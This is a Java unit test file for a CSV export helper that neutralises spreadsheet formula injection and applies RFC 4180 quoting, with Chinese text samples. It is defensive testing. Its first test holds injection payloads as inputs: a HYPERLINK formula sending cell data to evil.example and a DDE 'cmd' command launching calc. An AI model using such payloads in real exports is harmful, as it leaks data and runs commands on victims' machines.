package org.taizhang.platform.csv;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Formula neutralisation and RFC 4180 quoting of export cells, and the way back for an importer. */
class CsvCellsTest {

    @Test
    void shouldQuoteAndPrefixEveryCellASpreadsheetWouldRunAsAFormula() {
        assertThat(CsvCells.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\"");
        assertThat(CsvCells.cell("+1+cmd|' /C calc'!A0")).isEqualTo("\"'+1+cmd|' /C calc'!A0\"");
        assertThat(CsvCells.cell("-2+3")).isEqualTo("\"'-2+3\"");
        assertThat(CsvCells.cell("@SUM(A1:A9)")).isEqualTo("\"'@SUM(A1:A9)\"");
        assertThat(CsvCells.cell("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(CsvCells.cell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(CsvCells.cell("＝1+1")).isEqualTo("\"'＝1+1\"");
    }

    @Test
    void shouldKeepPlainNumbersAndOrdinaryTextAsTheyAre() {
        assertThat(CsvCells.cell("-3")).isEqualTo("-3");
        assertThat(CsvCells.cell("+1.5")).isEqualTo("+1.5");
        assertThat(CsvCells.cell("-20%")).isEqualTo("-20%");
        assertThat(CsvCells.cell("市发展和改革委员会")).isEqualTo("市发展和改革委员会");
        assertThat(CsvCells.cell("a=b")).isEqualTo("a=b");
        assertThat(CsvCells.cell(null)).isEmpty();
    }

    @Test
    void shouldQuoteSeparatorsQuotesLineBreaksAndEdgeSpacesAsRfc4180Says() {
        assertThat(CsvCells.cell("甲,乙")).isEqualTo("\"甲,乙\"");
        assertThat(CsvCells.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvCells.cell("一\n二")).isEqualTo("\"一\n二\"");
        assertThat(CsvCells.cell(" 边 ")).isEqualTo("\" 边 \"");
    }

    @Test
    void shouldRestoreExactlyTheTextItNeutralised() {
        for (String text : new String[] {"=1+1", "'=1+1", "''@x", "'plain", "-3", "普通", "", "'", "-", "=-"}) {
            assertThat(CsvCells.restored(CsvCells.neutralised(text))).isEqualTo(text);
        }
        assertThat(CsvCells.neutralised("'=1+1")).isEqualTo("''=1+1");
        assertThat(CsvCells.restored("'quoted by hand")).isEqualTo("'quoted by hand");
    }
}
